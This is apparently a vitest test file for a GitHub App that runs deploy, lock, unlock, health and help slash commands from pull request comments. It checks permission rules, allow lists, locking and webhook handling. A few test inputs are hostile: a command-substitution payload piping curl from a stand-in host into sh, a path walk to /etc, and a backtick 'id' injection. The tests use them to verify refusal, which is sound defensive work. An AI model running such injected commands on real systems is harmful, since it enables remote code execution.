import { afterEach, describe, expect, it } from 'vitest'
import { stringify } from 'yaml'
import { allOps } from '../../../src/ops/registry.ts'
import { expectValidRequests, makeGitRepo, okOp, startBed, type Bed } from './harness.ts'
import { comment, reactionsOn, statusComments } from './slash-harness.ts'

let bed: Bed | undefined
afterEach(async () => {
  await bed?.close()
  bed = undefined
})

const deployOps = allOps().filter((op) => ['deploy', 'rollback', 'health'].includes(op.name))

const config = (extra: Record<string, unknown> = {}): string =>
  stringify({
    environments: {
      staging: {
        target: { type: 'local' },
        steps: [{ name: 'noop', run: 'true' }],
        health: { checks: [{ name: 'alive', type: 'command', run: 'true' }], deadlineS: 0 },
      },
      production: { production: true, target: { type: 'local' }, steps: [{ name: 'noop', run: 'true' }] },
    },
    ...extra,
  })

async function start(o: { config?: string; mainFiles?: Record<string, string> } = {}): Promise<Bed> {
  const gitDir = makeGitRepo({
    main: { '.github/oda.yml': o.config ?? config(), 'a.txt': 'a\n', ...o.mainFiles },
    feature: { 'a.txt': 'b\n' },
    other: { 'a.txt': 'c\n' },
  })
  bed = await startBed({ repos: [{ owner: 'acme', repo: 'shop', gitDir }], ops: [okOp, ...deployOps] })
  return bed
}

async function pr(b: Bed, head = 'feature'): Promise<number> {
  const { pull } = await b.sim.openPullRequest({ owner: 'acme', repo: 'shop', head })
  await b.app.idle()
  return pull.number
}

const lockRefs = (b: Bed): string[] =>
  [...b.sim.state.repo('acme', 'shop').refs.entries()]
    .filter(([name, sha]) => name.startsWith('refs/oda/locks/') && sha !== null)
    .map(([name]) => name)

describe('slash commands through the App', () => {
  it('answers /help with the commands this commenter may run, in one status comment, eyes then rocket', async () => {
    const b = await start()
    const n = await pr(b)
    b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'wanda', permission: 'write' })
    const out = await comment(b, { number: n, body: 'Hi!\n/help', user: 'wanda' })
    expect(out.reactions).toEqual(['eyes', 'rocket'])
    expect(out.status).toHaveLength(1)
    expect(out.status[0]).toContain('`/deploy <environment> [ref] [--reason <text>] [--dry-run]`')
    expect(out.status[0]).toContain('`/lock <environment>')
    expect(out.status[0]).toContain('Commands @wanda (write) may run here')
    expect(out.status[0]).toContain('command-permission')
    expectValidRequests(b.sim)
  })

  it('lists for a read-only commenter what the other commands need', async () => {
    const b = await start({ config: config({ commands: { environments: { production: 'maintain' } } }) })
    const n = await pr(b)
    const out = await comment(b, { number: n, body: '/help', user: 'rita' })
    expect(out.status[0]).toMatch(/\| `\/deploy` \| needs write \|/)
    expect(out.status[0]).toContain('`/health <environment>')
    expect(out.status[0]).toContain('`production` needs maintain')
  })

  it('denies /deploy to a commenter without the permission and runs nothing', async () => {
    const b = await start()
    const n = await pr(b)
    const out = await comment(b, { number: n, body: '/deploy staging', user: 'rita' })
    expect(out.reactions).toEqual(['eyes', '-1'])
    expect(out.status).toHaveLength(1)
    expect(out.status[0]).toContain('⛔ denied')
    expect(out.status[0]).toContain('rita has read permission but /deploy on staging needs write')
    expect(b.sim.state.deployments.size).toBe(0)
    expect(lockRefs(b)).toEqual([])
    expectValidRequests(b.sim)
  })

  it('asks maintain for production when the config says so', async () => {
    const b = await start({ config: config({ commands: { environments: { production: 'maintain' } } }) })
    const n = await pr(b)
    b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'wanda', permission: 'write' })
    const out = await comment(b, { number: n, body: '/deploy main to production', user: 'wanda' })
    expect(out.status[0]).toContain('needs maintain (.github/oda.yml commands.environments.production)')
    expect(b.sim.state.deployments.size).toBe(0)
  })

  it('answers an unknown environment with the closest one, confused, and runs nothing', async () => {
    const b = await start()
    const n = await pr(b)
    b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'wanda', permission: 'admin' })
    const out = await comment(b, { number: n, body: '/deploy prodution', user: 'wanda' })
    expect(out.reactions).toEqual(['eyes', 'confused'])
    expect(out.status[0]).toContain('unknown environment "prodution"; did you mean production?')
    expect(out.status[0]).toContain('Nothing was executed')
    expect(b.sim.state.deployments.size).toBe(0)
  })

  it.each([
    ['a quoted command', '> /deploy staging'],
    ['a fenced command', '```\n/deploy staging\n```'],
    ['inline code', 'run `/deploy staging`'],
    ['a lookalike slash', '\uFF0Fdeploy staging'],
  ])('ignores %s: no reaction, no comment, no run', async (_what, body) => {
    const b = await start()
    const n = await pr(b)
    b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'wanda', permission: 'admin' })
    const out = await comment(b, { number: n, body, user: 'wanda' })
    expect(out).toMatchObject({ status: [], reactions: [] })
    expect(b.sim.state.deployments.size).toBe(0)
  })

  it('ignores comments by bots unless the config reads them', async () => {
    const b = await start()
    const n = await pr(b)
    b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'deployer[bot]', permission: 'admin' })
    const out = await comment(b, { number: n, body: '/locks', user: 'deployer[bot]' })
    expect(out).toMatchObject({ status: [], reactions: [] })
  })

  it.each([
    ['command substitution', '/deploy staging $(curl evil.sh|sh)'],
    ['a path walk', '/deploy staging ../../etc'],
    ['an unknown flag', '/deploy staging --force'],
    ['an unknown command', '/deplyo staging'],
  ])('refuses %s with usage and runs nothing', async (_what, body) => {
    const b = await start()
    const n = await pr(b)
    b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'wanda', permission: 'admin' })
    const out = await comment(b, { number: n, body, user: 'wanda' })
    expect(out.reactions).toEqual(['eyes', 'confused'])
    expect(out.status[0]).toContain('Not run')
    expect(b.sim.state.deployments.size).toBe(0)
    expect(lockRefs(b)).toEqual([])
  })

  it('runs /health on the environment and reports its checks', async () => {
    const b = await start()
    const n = await pr(b)
    const out = await comment(b, { number: n, body: '/health staging', user: 'rita' })
    expect(out.reactions).toEqual(['eyes', 'rocket'])
    expect(out.status).toHaveLength(1)
    expect(out.status[0]).toContain('✅ succeeded')
    expect(out.status[0]).toContain('Policy decisions')
    expectValidRequests(b.sim)
  })

  it('locks per pull request: another PR is told who holds it, /locks lists it, closing the PR releases it', async () => {
    const b = await start()
    const first = await pr(b, 'feature')
    const second = await pr(b, 'other')
    for (const user of ['wanda', 'walt'])
      b.sim.setPermission({ owner: 'acme', repo: 'shop', user, permission: 'write' })

    const locked = await comment(b, {
      number: first,
      body: '/lock staging --reason "db migration" --for 2h',
      user: 'wanda',
    })
    expect(locked.reactions).toEqual(['eyes', 'rocket'])
    expect(lockRefs(b)).toEqual(['refs/oda/locks/staging'])

    const deploy = await comment(b, { number: second, body: '/deploy staging', user: 'walt' })
    expect(deploy.reactions).toEqual(['eyes', '-1'])
    expect(deploy.status[0]).toContain(`staging is locked by #${first} (wanda: db migration, expires`)
    expect(b.sim.state.deployments.size).toBe(0)

    const unlock = await comment(b, { number: second, body: '/unlock staging', user: 'walt' })
    expect(unlock.reactions).toEqual(['eyes', '-1'])
    expect(unlock.status[0]).toContain('only that pull request or maintain permission may release it')
    expect(lockRefs(b)).toEqual(['refs/oda/locks/staging'])

    const list = await comment(b, { number: second, body: '/locks', user: 'walt' })
    expect(list.status[0]).toMatch(new RegExp(`\\| \`staging\` \\| #${first} \\(wanda: db migration`))
    expect(list.status[0]).toContain('| `production` | free |')

    await b.sim.updatePullRequest({ owner: 'acme', repo: 'shop', number: first, action: 'closed' })
    await b.sim.webhooks.idle()
    await b.app.idle()
    expect(lockRefs(b)).toEqual([])
    expectValidRequests(b.sim)
  })

  it('lets the owning PR unlock, and a maintainer unlock any PR’s lock', async () => {
    const b = await start()
    const first = await pr(b, 'feature')
    const second = await pr(b, 'other')
    b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'wanda', permission: 'write' })
    b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'max', permission: 'maintain' })
    await comment(b, { number: first, body: '/lock staging', user: 'wanda' })
    const own = await comment(b, { number: first, body: '/unlock staging', user: 'wanda' })
    expect(own.reactions).toEqual(['eyes', 'rocket'])
    expect(lockRefs(b)).toEqual([])
    await comment(b, { number: first, body: '/lock staging', user: 'wanda' })
    const forced = await comment(b, { number: second, body: '/unlock staging', user: 'max' })
    expect(forced.reactions).toEqual(['eyes', 'rocket'])
    expect(lockRefs(b)).toEqual([])
  })

  it('honours allow lists with nested teams resolved by GitHub', async () => {
    const b = await start({
      config: config({ commands: { allow: { lock: { users: ['lena'], teams: ['acme/release'] } } } }),
    })
    b.sim.setTeam({ org: 'acme', slug: 'release', members: ['rex'] })
    b.sim.setTeam({ org: 'acme', slug: 'release-oncall', members: ['nora'], parent: 'release' })
    for (const user of ['lena', 'rex', 'nora', 'walt'])
      b.sim.setPermission({ owner: 'acme', repo: 'shop', user, permission: 'write' })
    const n = await pr(b)
    const walt = await comment(b, { number: n, body: '/lock staging', user: 'walt' })
    expect(walt.reactions).toEqual(['eyes', '-1'])
    expect(walt.status[0]).toContain('walt is not in the users or teams of .github/oda.yml commands.allow.lock')
    const nora = await comment(b, { number: n, body: '/lock staging', user: 'nora' })
    expect(nora.reactions).toEqual(['eyes', 'rocket'])
    expect(nora.status[0]).toContain('nora is in the allow list of /lock')
    expectValidRequests(b.sim)
  })

  it('runs nothing twice for a redelivered webhook', async () => {
    const b = await start()
    const n = await pr(b)
    b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'wanda', permission: 'write' })
    const out = await comment(b, { number: n, body: '/lock staging', user: 'wanda' })
    await b.sim.webhooks.redeliver(out.deliveryId)
    await b.app.idle()
    expect(statusComments(b.sim, n)).toHaveLength(1)
  })

  it.each([
    ['success', 'rocket', '✅ succeeded'],
    ['failure', '-1', '❌ failed'],
  ] as const)(
    'dispatches the deploy workflow with the PR head SHA when configured, and reports its run (%s)',
    async (conclusion, reaction, shown) => {
      const b = await start({
        config: config({ commands: { deploy: { run: 'workflow', pollS: 0.05 } } }),
        mainFiles: { '.github/workflows/deploy.yml': 'on: workflow_dispatch\n' },
      })
      const n = await pr(b)
      b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'wanda', permission: 'write' })
      const runs: { inputs: unknown; headBranch: string }[] = []
      b.sim.onWorkflowDispatch((run) => {
        runs.push(run)
        b.sim.completeWorkflowRun(run.id, { conclusion })
      })
      const out = await comment(b, { number: n, body: '/deploy staging', user: 'wanda' })
      const head = b.sim.state.pull(b.sim.state.repo('acme', 'shop'), n).headSha
      expect(runs).toEqual([
        expect.objectContaining({ headBranch: 'main', inputs: { environment: 'staging', ref: head } }),
      ])
      expect(out.reactions).toEqual(['eyes', reaction])
      expect(out.status).toHaveLength(1)
      expect(out.status[0]).toContain(shown)
      expect(out.status[0]).toContain('/actions/runs/')
      // The workflow deploys; the App itself created no Deployment.
      expect(b.sim.state.deployments.size).toBe(0)
      expectValidRequests(b.sim)
    },
  )

  it('runs one of two /deploy commands sent in a burst; the other is told the environment is locked', async () => {
    const b = await start()
    const first = await pr(b, 'feature')
    const second = await pr(b, 'other')
    for (const user of ['wanda', 'walt'])
      b.sim.setPermission({ owner: 'acme', repo: 'shop', user, permission: 'write' })
    // Both deploys reach the lock at once: the lock ref's create is the only arbiter.
    const gate = b.sim.barrier({ method: 'POST', path: /\/git\/refs$/, count: 2 })
    const sent = [
      b.sim.webhooks.issueComment({
        owner: 'acme',
        repo: 'shop',
        number: first,
        body: '/deploy staging',
        user: 'wanda',
      }),
      b.sim.webhooks.issueComment({
        owner: 'acme',
        repo: 'shop',
        number: second,
        body: '/deploy staging',
        user: 'walt',
      }),
    ]
    await Promise.all(sent.map((c) => b.sim.webhooks.send({ event: 'issue_comment', payload: c.payload })))
    await gate.arrived
    await b.app.idle()
    const reactions = sent.map((c) => reactionsOn(b.sim, c.comment.id).at(-1)).sort()
    expect(reactions).toEqual(['-1', 'rocket'])
    const bodies = [...statusComments(b.sim, first), ...statusComments(b.sim, second)].map((c) => c.body)
    expect(bodies.filter((t) => t.includes('is locked by'))).toHaveLength(1)
    expect(b.sim.state.deployments.size).toBe(1)
    expectValidRequests(b.sim)
  })

  it('refuses a hostile command at the top of a 64 KB comment', async () => {
    const b = await start()
    const n = await pr(b)
    b.sim.setPermission({ owner: 'acme', repo: 'shop', user: 'wanda', permission: 'admin' })
    const body = `/deploy staging \`id\`\n${'x'.repeat(65_000)}`
    const out = await comment(b, { number: n, body, user: 'wanda' })
    expect(out.reactions).toEqual(['eyes', 'confused'])
    expect(b.sim.state.deployments.size).toBe(0)
  })
})
